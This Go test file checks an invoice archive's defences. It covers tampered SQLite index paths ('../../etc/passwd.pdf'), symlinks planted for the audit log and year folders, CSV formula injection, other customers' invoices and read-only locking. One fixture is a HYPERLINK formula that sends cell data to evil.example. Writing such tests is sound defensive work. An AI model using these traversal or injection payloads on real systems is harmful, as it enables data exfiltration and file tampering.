package archive_test

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/json"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"billfold/billing"
	"billfold/internal/archive"
)

// Whoever can write the folder can change the index and put links in it.
// None of it may make the archive write, or hand out, a file outside the
// folder; verify says what was changed. (A helper's attack found each of
// these open.)

// execIndex changes the index as someone with the folder's files would.
func execIndex(t *testing.T, dir string, stmts ...string) {
	t.Helper()
	db, err := sql.Open("sqlite", filepath.Join(dir, archive.IndexFile))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	for _, s := range stmts {
		if _, err := db.Exec(s); err != nil {
			t.Fatalf("%s: %v", s, err)
		}
	}
}

// archivedFolder is a folder with n invoices archived, and their source.
func archivedFolder(t *testing.T, n int) (*memSource, string) {
	t.Helper()
	src := newMemSource("folder@example.jp")
	for i := range n {
		src.put("", memInvoice("", i+1, time.Date(2026, 3, i+1, 1, 0, 0, 0, time.UTC), "VPS", 1000))
	}
	dir := t.TempDir()
	ar := openArchive(t, dir)
	if res, err := ar.Sync(context.Background(), src, archive.SyncOptions{}); err != nil || res.New != n {
		t.Fatalf("sync: %+v %v", res, err)
	}
	ar.Close()
	return src, dir
}

func needLinks(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("symbolic links need privileges on Windows")
	}
}

// An index that names "../elsewhere/x" for an invoice: sync wrote its next
// version there, search handed that file out, and verify passed.
func TestNoIndexPathLeadsOutOfTheFolder(t *testing.T) {
	ctx := context.Background()
	src, dir := archivedFolder(t, 1)
	outside := filepath.Join(filepath.Dir(dir), "outside-"+filepath.Base(dir))
	t.Cleanup(func() { os.RemoveAll(outside) })
	execIndex(t, dir, `UPDATE invoices SET base = '../outside-`+filepath.Base(dir)+`/x'`)
	src.put("", memInvoice("", 1, time.Date(2026, 3, 1, 1, 0, 0, 0, time.UTC), "VPS", 2000)) // a new version
	ar := openArchive(t, dir)
	if _, err := ar.Sync(ctx, src, archive.SyncOptions{}); err == nil || !strings.Contains(err.Error(), "outside the folder") {
		t.Fatalf("sync: %v, want a refusal", err)
	}
	if _, err := os.Stat(outside); err == nil {
		t.Fatal("sync wrote outside the folder")
	}
	if rep, err := ar.Verify(ctx); err != nil || rep.OK() {
		t.Fatalf("verify: OK %v, %v", rep.OK(), err)
	}

	// A stored version's path changed too (its trigger dropped first).
	execIndex(t, dir, `DROP TRIGGER versions_no_update`, `UPDATE versions SET pdf_path = '../../etc/passwd.pdf'`)
	es, err := ar.Search(ctx, archive.Query{})
	if err != nil || len(es) != 1 || es[0].PDFPath != "" {
		t.Fatalf("search: %+v %v, want no PDF path", es, err)
	}
	if rep, err := ar.Verify(ctx); err != nil || rep.OK() {
		t.Fatalf("verify after the path changed: OK %v, %v", rep.OK(), err)
	}
}

// A link in place of audit.jsonl: sync appended the chain to the file it
// pointed at, and opening the folder (verify does) cut that file's last
// line. The folder is refused instead, and the file is left as it was.
func TestALinkForAnArchiveFileIsRefused(t *testing.T) {
	needLinks(t)
	_, dir := archivedFolder(t, 2)
	victim := filepath.Join(t.TempDir(), "settings.conf")
	orig := []byte("one\nkey=value without a newline")
	if err := os.WriteFile(victim, orig, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(filepath.Join(dir, archive.AuditFile)); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(victim, filepath.Join(dir, archive.AuditFile)); err != nil {
		t.Fatal(err)
	}
	execIndex(t, dir, `DELETE FROM audit_file`)
	if ar, err := archive.Open(dir); err == nil {
		ar.Close()
		t.Fatal("opened a folder whose audit log is a link")
	}
	if got, _ := os.ReadFile(victim); !bytes.Equal(got, orig) {
		t.Fatalf("the linked file changed: %q", got)
	}
}

// A year folder that is a link to a folder elsewhere: sync put the
// invoices there, and verify passed. The invoice is not archived instead.
func TestALinkedYearFolderIsRefused(t *testing.T) {
	needLinks(t)
	ctx := context.Background()
	src, dir := archivedFolder(t, 1)
	elsewhere := t.TempDir()
	if err := os.Symlink(elsewhere, filepath.Join(dir, "2027")); err != nil {
		t.Fatal(err)
	}
	src.put("", memInvoice("", 9, time.Date(2027, 3, 2, 1, 0, 0, 0, time.UTC), "VPS", 1000))
	ar := openArchive(t, dir)
	res, err := ar.Sync(ctx, src, archive.SyncOptions{})
	if err == nil || len(res.Failed) != 1 {
		t.Fatalf("sync: %+v %v, want the 2027 invoice failed", res, err)
	}
	if ents, _ := os.ReadDir(elsewhere); len(ents) > 0 {
		t.Fatalf("%d files written through the link", len(ents))
	}
}

// An append to audit.jsonl that failed (a full disk) is mended by the
// next sync of the same open archive, as the app keeps it open: that sync
// appended after the gap, and verify failed for good.
func TestASyncMendsTheAuditLogOfAnOpenArchive(t *testing.T) {
	ctx := context.Background()
	src, dir := archivedFolder(t, 1)
	ar := openArchive(t, dir)
	auditPath := filepath.Join(dir, archive.AuditFile)
	saved, err := os.ReadFile(auditPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(auditPath); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(auditPath, 0o755); err != nil { // the next append fails
		t.Fatal(err)
	}
	src.put("", memInvoice("", 2, time.Date(2026, 3, 2, 1, 0, 0, 0, time.UTC), "VPS", 1000))
	if _, err := ar.Sync(ctx, src, archive.SyncOptions{}); err == nil {
		t.Fatal("a sync whose append failed succeeded")
	}
	if err := os.Remove(auditPath); err != nil { // the disk has room again
		t.Fatal(err)
	}
	if err := os.WriteFile(auditPath, saved, 0o644); err != nil {
		t.Fatal(err)
	}
	src.put("", memInvoice("", 3, time.Date(2026, 3, 3, 1, 0, 0, 0, time.UTC), "VPS", 1000))
	if _, err := ar.Sync(ctx, src, archive.SyncOptions{}); err != nil {
		t.Fatalf("the next sync: %v", err)
	}
	if rep, err := ar.Verify(ctx); err != nil || !rep.OK() {
		t.Fatalf("verify: %v %v", rep.Problems, err)
	}
}

// Every text the server sent is defused in the CSV export: a status of
// "=HYPERLINK(…)" went out as a live formula.
func TestExportDefusesEveryServerText(t *testing.T) {
	ctx := context.Background()
	src := newMemSource("csv@example.jp")
	inv := memInvoice("", 1, time.Date(2026, 3, 1, 1, 0, 0, 0, time.UTC), "VPS", 1000)
	inv.Status = billing.InvoiceStatus(`=HYPERLINK("http://evil.example/?"&A2,"paid")`)
	src.put("", inv)
	ar := openArchive(t, t.TempDir())
	if _, err := ar.Sync(ctx, src, archive.SyncOptions{}); err != nil {
		t.Fatal(err)
	}
	es, err := ar.Search(ctx, archive.Query{})
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := archive.ExportCSV(&b, es, archive.CSVOptions{}); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), `,"=HYPERLINK(`) || !strings.Contains(b.String(), `"'=HYPERLINK(`) {
		t.Fatalf("export:\n%s", b.String())
	}
}

// One invoice whose issue date is no date fails alone: it failed every
// sync, as "an item without an id", and nothing else was archived.
func TestOneBadIssueDateFailsOnlyItsInvoice(t *testing.T) {
	src := newMemSource("dates@example.jp")
	src.put("", memInvoice("", 1, time.Date(2026, 3, 1, 1, 0, 0, 0, time.UTC), "VPS", 1000))
	src.lists[""] = append(src.lists[""], json.RawMessage(`{"id":"inv_bad","number":"X-1","customer_id":"usr_dates@example.jp","issued_at":"yesterday"}`))
	ar := openArchive(t, t.TempDir())
	res, err := ar.Sync(context.Background(), src, archive.SyncOptions{})
	if res.New != 1 || len(res.Failed) != 1 || res.Failed[0].Number != "X-1" || err == nil || !strings.Contains(err.Error(), "issue date") {
		t.Fatalf("sync: %+v %v", res, err)
	}
}

// An invoice the server signed is archived only under its own customer:
// the signature does not say whose archive it belongs in, and one made out
// to another customer was filed as the account's own (and, for staff,
// under the customer whose listing it came in).
func TestAnotherCustomersInvoiceIsNotArchived(t *testing.T) {
	ctx := context.Background()
	issued := time.Date(2026, 3, 1, 1, 0, 0, 0, time.UTC)

	src := newMemSource("own@example.jp")
	src.put("", memInvoice("", 1, issued, "VPS", 1000))
	src.put("", memInvoice("usr_other@example.jp", 2, issued, "someone else's", 2000))
	ar := openArchive(t, t.TempDir())
	res, err := ar.Sync(ctx, src, archive.SyncOptions{})
	if res.New != 1 || len(res.Failed) != 1 || res.Failed[0].Number != "INV-2026-2" || err == nil || !strings.Contains(err.Error(), "usr_other@example.jp") {
		t.Fatalf("own sync: %+v %v", res, err)
	}

	staff := newMemSource("staff@example.jp")
	staff.put("cus_a", memInvoice("cus_a", 1, issued, "VPS", 1000))
	staff.put("cus_a", memInvoice("cus_b", 2, issued, "cus_b's, listed as cus_a's", 2000))
	sar := openArchive(t, t.TempDir())
	res, err = sar.Sync(ctx, staff, archive.SyncOptions{Customers: []string{"cus_a"}})
	if res.New != 1 || len(res.Failed) != 1 || res.Failed[0].Number != "INV-2026-2" || err == nil {
		t.Fatalf("staff sync: %+v %v", res, err)
	}
	if es, err := sar.Search(ctx, archive.Query{CustomerID: "cus_b"}); err != nil || len(es) != 0 {
		t.Fatalf("cus_b's invoice archived: %+v %v", es, err)
	}
}

// A folder opened for reading only: it reads while no writer has it
// open, and never syncs.
func TestOpenReadOnly(t *testing.T) {
	ctx := context.Background()
	src, dir := archivedFolder(t, 2)
	w := openArchive(t, dir)
	if _, err := archive.OpenReadOnly(dir); err != archive.ErrLocked {
		t.Fatalf("opened while a sync may write: %v", err)
	}
	w.Close()
	r, err := archive.OpenReadOnly(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	if es, err := r.Search(ctx, archive.Query{}); err != nil || len(es) != 2 {
		t.Fatalf("search: %d, %v", len(es), err)
	}
	if rep, err := r.Verify(ctx); err != nil || !rep.OK() {
		t.Fatalf("verify: %+v, %v", rep, err)
	}
	if _, err := r.Sync(ctx, src, archive.SyncOptions{}); err == nil {
		t.Fatal("synced into a folder opened for reading")
	}
	if _, err := archive.Open(dir); err != archive.ErrLocked {
		t.Fatalf("a writer opened the folder a reader has open: %v", err)
	}
}

// A folder whose name SQLite would read as more than a path: "#" began a
// fragment, so the index opened was "Client " beside the folder, new and
// empty, and %41 was read as "A".
func TestAFolderNameIsOnlyAPath(t *testing.T) {
	ctx := context.Background()
	name := "Client #2 100%41"
	if runtime.GOOS != "windows" {
		name += " a?b"
	}
	parent := t.TempDir()
	dir := filepath.Join(parent, name)
	src := newMemSource("names@example.jp")
	for i := range 2 {
		src.put("", memInvoice("", i+1, time.Date(2026, 3, i+1, 1, 0, 0, 0, time.UTC), "VPS", 1000))
	}
	ar := openArchive(t, dir)
	if res, err := ar.Sync(ctx, src, archive.SyncOptions{}); err != nil || res.New != 2 {
		t.Fatalf("sync: %+v %v", res, err)
	}
	ar.Close()
	for what, open := range map[string]func(string) (*archive.Archive, error){"Open": archive.Open, "OpenReadOnly": archive.OpenReadOnly} {
		a, err := open(dir)
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		es, err := a.Search(ctx, archive.Query{})
		a.Close()
		if err != nil || len(es) != 2 {
			t.Fatalf("%s, search: %d invoices, %v", what, len(es), err)
		}
	}
	if entries, _ := os.ReadDir(parent); len(entries) != 1 {
		t.Fatalf("beside the folder: %v", entries)
	}
}

// A sync killed before its index's checkpoint leaves its last commits in
// the write-ahead log, and a copy of the folder taken then has no lock
// file: the offline commands read all of it (an immutable reader had
// missed those commits and refused).
func TestAKilledSyncsCopyReadsWhole(t *testing.T) {
	ctx := context.Background()
	src := newMemSource("killed@example.jp")
	for i := range 3 {
		src.put("", memInvoice("", i+1, time.Date(2026, 3, i+1, 1, 0, 0, 0, time.UTC), "VPS", 1000))
	}
	dir := t.TempDir()
	ar := openArchive(t, dir)
	if _, err := ar.Sync(ctx, src, archive.SyncOptions{}); err != nil {
		t.Fatal(err)
	}
	// The copy, taken while the writer still has the folder open.
	cp := t.TempDir()
	err := filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.Name() == ".lock" {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		if d.IsDir() {
			return os.MkdirAll(filepath.Join(cp, rel), 0o755)
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		return os.WriteFile(filepath.Join(cp, rel), data, 0o644)
	})
	if err != nil {
		t.Fatal(err)
	}
	if fi, err := os.Stat(filepath.Join(cp, archive.IndexFile+"-wal")); err != nil || fi.Size() == 0 {
		t.Skipf("the writer checkpointed already: %v", err)
	}
	r, err := archive.OpenReadOnly(cp)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	if es, err := r.Search(ctx, archive.Query{}); err != nil || len(es) != 3 {
		t.Fatalf("search: %d, %v", len(es), err)
	}
	if _, err := archive.Open(cp); err != archive.ErrLocked {
		t.Fatalf("a writer opened the copy a reader has open: %v", err)
	}
}
